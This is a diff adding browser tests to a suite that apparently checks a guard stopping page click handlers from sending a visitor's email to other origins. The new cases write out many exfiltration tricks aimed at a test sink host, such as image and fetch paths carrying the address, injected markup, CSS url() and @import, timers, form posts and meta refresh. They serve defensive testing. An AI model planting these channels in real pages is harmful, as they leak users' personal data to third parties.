@@ -333,6 +333,67 @@ describe('other channels a page handler sends data by', function () {
     }) }));
   });
 
+  // The data carried in an address's path, not its query: a picture named after the visitor's
+  // email, a fetch whose path holds it base64-encoded.
+  it("an image whose path (not its query) carries the field's value", async () => {
+    await refusedKinds(await attack({ page, setup: onSave(() => (new Image().src = sink.url(`/p/${email()}.gif`))) }));
+  });
+
+  it('a fetch GET whose path carries the value base64-encoded', async () => {
+    await refusedKinds(await attack({ page, setup: onSave(() => void fetch(sink.url(`/u/${btoa(email())}`)).catch(() => undefined)) }));
+  });
+
+  it("an image whose path carries a run of the page's own text, or an order number it shows", async () => {
+    const shown = `${page}<p>Note: leave at the blue door. Order ZX99812Q is on its way.</p>`;
+    await refusedKinds(await attack({ page: shown, setup: onSave(() => (new Image().src = sink.url('/n/leave-at-the-blue-door.gif'))) }));
+    sink = createSink();
+    await refusedKinds(await attack({ page: shown, setup: onSave(() => (new Image().src = sink.url('/o/zx99812q.gif'))) }));
+  });
+
+  // Resources inserted as markup or CSS load without any address setter being called. Each is put
+  // in the test's own page (its root), which the next test replaces.
+  const inserting = (make: (url: string) => string, insert: (root: HTMLElement, text: string) => void) => (root: HTMLElement) =>
+    onSave(() => insert(root, make(sink.url(`/m.gif?e=${email()}`))))(root);
+  it('innerHTML with an image whose src carries the data', async () => {
+    await refusedKinds(await attack({ page, setup: inserting((url) => `<img alt="" src="${url}">`, (root, markup) => (root.querySelector('label')!.innerHTML += markup)) }));
+  });
+
+  it('insertAdjacentHTML with a prefetch link carrying the data', async () => {
+    await refusedKinds(await attack({ page, setup: inserting((url) => `<link rel="prefetch" href="${url}">`, (root, markup) => root.insertAdjacentHTML('beforeend', markup)) }));
+  });
+
+  it('a node parsed by DOMParser and appended, its picture carrying the data', async () => {
+    await refusedKinds(await attack({ page, setup: inserting((url) => `<div><img alt="" src="${url}"></div>`, (root, markup) => root.append(new DOMParser().parseFromString(markup, 'text/html').body.firstElementChild!)) }));
+  });
+
+  it("a style's background-image set with setProperty from the handler carries the data", async () => {
+    await refusedKinds(await attack({ page, setup: inserting((url) => `url("${url}")`, (root, css) => root.style.setProperty('background-image', css)) }));
+  });
+
+  it('a <style> with @import added by the handler carries the data', async () => {
+    await refusedKinds(await attack({ page, setup: inserting((url) => `@import url("${url}");`, (root, css) => {
+      const style = document.createElement('style');
+      style.textContent = css;
+      root.append(style);
+    }) }));
+  });
+
+  it('a style attribute set with setAttribute, its url() carrying the data', async () => {
+    await refusedKinds(await attack({ page, setup: inserting((url) => `background: url(${url})`, (root, css) => root.querySelector('label')!.setAttribute('style', css)) }));
+  });
+
+  it("a CDN's picture at another size (a query with no data of the page's) still loads", async () => {
+    const run = await attack({ page: `${page}<img id="photo" alt="Shoe" src="">`, setup: onSave(() => ((document.querySelector('#photo') as HTMLImageElement).src = sink.url('/x.jpg?w=600&dpr=2'))) });
+    expect(run.blocked).to.deep.equal([]);
+    expect((await sink.whenReceived(1)).map((record) => `${record.method} ${record.path}`)).to.deep.equal(['GET /x.jpg']);
+  });
+
+  it("a gallery's markup with a CDN picture (no data in its address) is inserted and loads", async () => {
+    const run = await attack({ page, setup: (root) => onSave(() => root.insertAdjacentHTML('beforeend', `<img alt="" src="${sink.url('/large/x.jpg?w=1200')}">`))(root) });
+    expect(run.blocked).to.deep.equal([]);
+    expect((await sink.whenReceived(1)).map((record) => `${record.method} ${record.path}`)).to.deep.equal(['GET /large/x.jpg']);
+  });
+
   it("an image from another origin with no data in its address still loads (a CDN's picture)", async () => {
     const run = await attack({ page, setup: onSave(() => (new Image().src = sink.url('/photo.png'))) });
     expect(run.blocked).to.deep.equal([]);
@@ -431,5 +492,49 @@ describe('the allowed ways out still work', function () {
     expect(run.blocked).to.deep.equal([]);
     const frame = run.root.querySelector('iframe')!;
     await waitFor(() => frame.contentWindow!.location.pathname.endsWith('shop-orders.html'), 'the frame to load the page');
+  });
+});
+
+// Round 3: effects a handler defers past the click (a timer), navigation by markup, and data
+// handed to another origin's frame.
+describe('deferred and indirect ways out', function () {
+  this.timeout(20_000);
+  const page = `${says('Click "Save".')}<label>Email <input id="email" value="ada@example.com"></label><button type="button" id="save">Save</button>`;
+  const later = (run: () => void) => (root: HTMLElement) => root.querySelector('#save')!.addEventListener('click', () => setTimeout(() => {
+    try {
+      run();
+    } catch {
+      // refused
+    }
+  }, 30));
+
+  it('window.open from a setTimeout the click started', async () => {
+    const opened: Array<Window | null> = [];
+    const run = await attack({ page, setup: later(() => opened.push(window.open(sink.url('/share?e=ada@example.com')))) });
+    for (const view of opened) view?.close();
+    expect(await sink.received()).to.deep.equal([]);
+    expect(opened.every((view) => view === null), 'no window opened').to.equal(true);
+    expect(run.blocked.length).to.be.greaterThan(0);
+  });
+
+  it('requestSubmit() from a setTimeout, of a form posting to another origin', async () => {
+    const run = await attack({
+      page: `${page}<form id="f" method="post" target="out" action="${sink.url('/collect')}"><input type="hidden" name="e" value="ada@example.com"></form><iframe name="out" style="width: 200px; height: 40px"></iframe>`,
+      setup: later(() => (document.querySelector('#f') as HTMLFormElement).requestSubmit()),
+    });
+    expect(await sink.received()).to.deep.equal([]);
+    expect(run.blocked.length).to.be.greaterThan(0);
+  });
+
+  it('a <meta http-equiv=refresh> to another origin inserted by the handler', async () => {
+    const run = await attack({ page, setup: (root) => root.querySelector('#save')!.addEventListener('click', () => root.insertAdjacentHTML('beforeend', `<meta http-equiv="refresh" content="0; url=${sink.url('/landing')}">`)) });
+    expect(await sink.received(800)).to.deep.equal([]);
+    expect(run.blocked.length).to.be.greaterThan(0);
+    expect(location.href).to.include(window.location.origin);
+  });
+
+  it('a CSS image of the same origin with the data still loads (only other sites are judged)', async () => {
+    const run = await attack({ page, setup: (root) => root.querySelector('#save')!.addEventListener('click', () => root.insertAdjacentHTML('beforeend', `<img alt="" src="/favicon.ico?e=ada@example.com">`)) });
+    expect(run.blocked).to.deep.equal([]);
   });
 });
